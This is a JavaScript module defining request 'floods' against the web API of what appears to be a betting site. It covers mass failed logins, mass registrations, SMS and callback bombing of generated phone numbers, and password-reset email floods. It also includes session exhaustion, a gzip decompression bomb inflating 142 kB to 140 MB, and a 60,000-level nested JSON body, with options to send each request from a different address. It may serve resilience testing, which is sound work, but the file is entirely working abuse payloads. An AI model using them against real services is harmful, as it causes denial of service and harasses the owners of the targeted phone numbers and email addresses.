import { gzipSync } from "node:zlib";

const json = { "Content-Type": "application/json" };
const text = (fields) => Buffer.from(JSON.stringify(fields));
const password = Buffer.from("guess").toString("base64");
let packed = null;
/** 142 kB that become 140 MB. */
const bomb = () => {
  packed ??= gzipSync(`{"v":1}\n${"\n".repeat(140 * 1024 * 1024)}`);
  return packed;
};
const login = (name) =>
  text({ uLogin: name, uPassword: password, save: false, componentsData: null });
const numberOf = (index) => String(7_015_550_000 + (index % 9000));
const newcomer = {
  countryId: 17,
  currencyId: 2,
  bonusId: 0,
  isTermsAccepted: true,
  componentsData: null,
};

/**
 * What a flood asks for: `make(index)` gives path, headers and body; a visitor's cookie is added where `isVisitor`, and
 * each request comes from an address of its own where `isFromEverywhere`.
 */
export const kinds = {
  "wrong passwords": {
    make: (index) => ["/web-api/auth/login", json, login(`player${index}`)],
  },
  "wrong passwords from everywhere": {
    isFromEverywhere: true,
    make: (index) => ["/web-api/auth/login", json, login(`player${index}`)],
  },
  registrations: {
    make: () => ["/web-api/registration/fast_reg", json, text(newcomer)],
  },
  "registrations from everywhere": {
    isFromEverywhere: true,
    make: () => ["/web-api/registration/fast_reg", json, text(newcomer)],
  },
  "short messages": {
    make: (index) => [
      "/web-api/registration/send-sms",
      json,
      text({ phoneCode: "+7", phone: numberOf(index), componentsData: null }),
    ],
  },
  "reset letters": {
    make: (index) => [
      "/web-api/auth/password/forgot",
      json,
      text({ method: "email", email: `player${index}@example.com` }),
    ],
  },
  "ordered calls": {
    make: (index) => [
      "/web-api/support/callback",
      json,
      text({ phoneCode: "+7", phone: numberOf(index) }),
    ],
  },
  "new sessions": { make: () => ["/web-api/session", {}, null] },
  "new sessions from everywhere": {
    isFromEverywhere: true,
    make: () => ["/web-api/session", {}, null],
  },
  "uploads that inflate": {
    isVisitor: true,
    make: () => ["/web-api/diagnostics/event-logs", { "Content-Encoding": "gzip" }, bomb()],
  },
  "uploads that inflate from everywhere": {
    isVisitor: true,
    isFromEverywhere: true,
    make: () => ["/web-api/diagnostics/event-logs", { "Content-Encoding": "gzip" }, bomb()],
  },
  "deep bodies": {
    make: () => ["/web-api/coupon/place", json, Buffer.from("[".repeat(60_000))],
  },
};
